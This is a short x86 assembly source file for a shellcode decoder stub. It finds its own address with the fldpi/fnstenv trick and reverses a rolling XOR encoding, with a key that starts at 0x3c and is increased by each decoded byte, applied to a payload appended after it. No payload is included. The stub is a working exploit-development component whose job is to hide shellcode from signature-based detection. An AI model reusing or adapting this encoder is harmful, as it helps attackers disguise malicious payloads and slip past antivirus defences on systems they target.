; Decoder: every byte xor a key to which the decoded byte is added; the key starts at 0x3c.
bits 32
        jmp short start
length: dw 0
start:  fldpi
        fnstenv [esp - 12]
        pop edi
        movzx ecx, word [edi - 2]
        add edi, byte payload - start
        mov al, 0x3c
again:  xor [edi], al
        add al, [edi]
        inc edi
        loop again
payload:
